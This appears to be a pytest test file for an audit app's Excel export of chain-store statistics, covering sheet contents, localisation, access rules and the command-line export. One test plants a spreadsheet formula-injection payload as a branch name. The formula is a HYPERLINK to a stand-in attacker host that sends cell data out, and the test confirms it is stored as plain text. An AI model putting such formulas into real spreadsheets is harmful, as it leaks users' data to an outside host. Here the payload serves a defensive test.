"""The chain statistics as an Excel workbook (dashboard button and ``audit report chain --out
F.xlsx``), read back with openpyxl: the numbers of :func:`chain_statistics`, as numbers, in the
user's language, with the dashboard's filters, and names that can never turn into formulas."""
from __future__ import annotations

import io
import re
import zipfile
from html import unescape

import pytest
from openpyxl import load_workbook

from audit.extensions import db
from audit.models import Location
from audit.reports.summary import executive_summary
from audit.services.chain_stats import StatsFilter, chain_statistics
from tests.conftest import login
from tests.web.test_office import build_demo


@pytest.fixture
def demo(runner, checklists, make_user):
    build_demo(runner)
    return {role: make_user(role, locations=["VLN-01"] if role == "manager" else ())
            for role in ("admin", "reviewer", "auditor", "manager")}


def workbook(data: bytes):
    assert data[:2] == b"PK", data[:40]
    return load_workbook(io.BytesIO(data))


def table(sheet) -> tuple[list, list[tuple]]:
    rows = list(sheet.iter_rows(values_only=True))
    return list(rows[0]), rows[1:]


def test_the_download_holds_the_statistics_of_the_dashboard_s_filters(app, client, demo):
    login(client, demo["reviewer"].email)
    html = client.get("/office?region=Kaunas").get_data(as_text=True)
    link = unescape(re.search(r'href="([^"]+)" id="download-xlsx"', html).group(1))
    assert "region=Kaunas" in link
    answer = client.get(link)
    assert answer.status_code == 200
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="chain-store-visit-Kaunas.xlsx"' in answer.headers["Content-Disposition"]
    book = workbook(answer.data)
    assert book.sheetnames == ["Summary", "Branches", "Questions", "Sections", "Branches × sections", "Auditors",
                               "Trend by month", "Repeat failures"]
    stats = chain_statistics(StatsFilter("store-visit", region="Kaunas"), "en")
    head, rows = table(book["Branches"])
    assert head[:7] == ["#", "Code", "Branch", "Region", "Format", "Visits", "Mean"]
    assert [row[1] for row in rows] == [r["code"] for r in stats["locations"]]  # best first
    for row, record in zip(rows, stats["locations"]):
        assert row[3] == "Kaunas" and row[5] == record["visits"]
        assert row[6] == pytest.approx(record["mean"]) and isinstance(row[6], float)  # a number, in full
        # cut to 0–100 as on the dashboard (an uncut interval of 2 visits read −106.7–276.5)
        assert (row[7], row[8]) == (pytest.approx(max(record["ci_low"], 0)), pytest.approx(min(record["ci_high"], 100)))
        assert 0 <= row[7] <= row[8] <= 100
    assert book["Branches"]["G2"].number_format == "0.0"
    head, rows = table(book["Questions"])
    by_id = {item["id"]: item for item in stats["items"]}
    assert [row[0] for row in rows] == [item["id"] for item in stats["items"]]
    for row in rows:
        item = by_id[row[0]]
        assert row[1] == item["text"] and row[3] == item["answers"]
        assert row[4] == pytest.approx(item["mean"]) and row[5] == pytest.approx(item["pass_rate"])
    head, rows = table(book["Branches × sections"])  # the heat map's figures
    matrix = stats["section_matrix"]
    assert head == ["Code", "Branch", "Region"] + matrix["section_titles"]
    assert [row[0] for row in rows] == [r["code"] for r in stats["locations"]]
    for row in rows:
        expected = matrix["values"][matrix["locations"].index(row[0])]
        assert [v if v is None else pytest.approx(v) for v in expected] == list(row[3:])
    _head, rows = table(book["Auditors"])
    assert {(row[0], row[1]) for row in rows} == {(a["name"], a["visits"]) for a in stats["consistency"]["auditors"]}
    summary = [row for row in book["Summary"].iter_rows(values_only=True)]
    assert ("Region", "Kaunas") in summary and ("approved visits", stats["visits"]) in summary
    with app.test_request_context(headers={"Accept-Language": "en"}):
        sentences = executive_summary(stats)  # the sentences of the PDF and the dashboard
    assert len(sentences) >= 2 and all((sentence.replace("\u2060", ""), None) in summary for sentence in sentences)
    assert not any("\u2060" in str(cell) for row in summary for cell in row)  # invisible in Excel, but there


@pytest.mark.parametrize("lang, code_title", [("ru", "Код"), ("lt", "Kodas"), ("lv", "Kods")])
def test_the_workbook_speaks_the_user_s_language(app, client, demo, checklists, lang, code_title):
    login(client, demo["admin"].email)
    book = workbook(client.get("/office/statistics.xlsx?checklist=store-visit",
                               headers={"Accept-Language": lang}).data)
    head, _rows = table(book.worksheets[1])
    assert head[1] == code_title
    assert all(len(title) <= 31 for title in book.sheetnames)  # Excel's limit for sheet names
    assert "Summary" not in book.sheetnames
    # the executive summary in the user's language, naming branches and questions, not their ids
    summary = [row[0] for row in book.worksheets[0].iter_rows(values_only=True) if row[0] and row[1] is None]
    sentences = summary[summary.index(book.worksheets[0]["A1"].value) + 1:]
    assert len(sentences) > 3
    words = " ".join(sentences)
    assert "scores" not in words and "between branches" not in words
    ids = {item.id for item in checklists["store-visit"].parsed.items} | {s.id for s in checklists["store-visit"].parsed.sections}
    assert not ids & set(re.findall(r"[a-z]+(?:_[a-z]+)+|[a-z]+", words))


def test_a_name_that_looks_like_a_formula_stays_text(app, client, demo):
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    location = db.session.scalar(db.select(Location).where(Location.code == "VLN-01"))
    location.name = evil
    db.session.commit()
    login(client, demo["admin"].email)
    data = client.get("/office/statistics.xlsx").data
    sheet = workbook(data)["Branches"]
    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == "VLN-01")
    assert cell.value == evil and cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))
    assert not re.search(r"<f[ >]", xml)  # no formula anywhere
    assert re.search(r'<c r="C\d+" t="inlineStr"><is><t>=HYPERLINK', xml)  # the name, as text


def test_nothing_to_export_or_no_right_to_it_is_404_and_a_bad_filter_400(app, client, demo):
    login(client, demo["admin"].email)
    assert client.get("/office/statistics.xlsx?checklist=nope").status_code == 400  # named, see test_office
    assert client.get("/office/statistics.xlsx?since=2031-01-01").status_code == 404
    assert client.get("/office/statistics.xlsx?since=2031-13-01").status_code == 400
    for role in ("manager", "auditor"):
        other = app.test_client()
        login(other, demo[role].email)
        assert other.get("/office/statistics.xlsx").status_code == 404


def test_the_command_line_writes_the_workbook_for_an_xlsx_file(app, runner, demo, tmp_path):
    out = tmp_path / "chain.xlsx"
    result = runner.invoke(args=["report", "chain", "--checklist", "store-visit", "--lang", "lv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    book = workbook(out.read_bytes())
    _head, rows = table(book.worksheets[1])
    stats = chain_statistics(StatsFilter("store-visit"), "lv")
    assert [row[1] for row in rows] == [r["code"] for r in stats["locations"]]
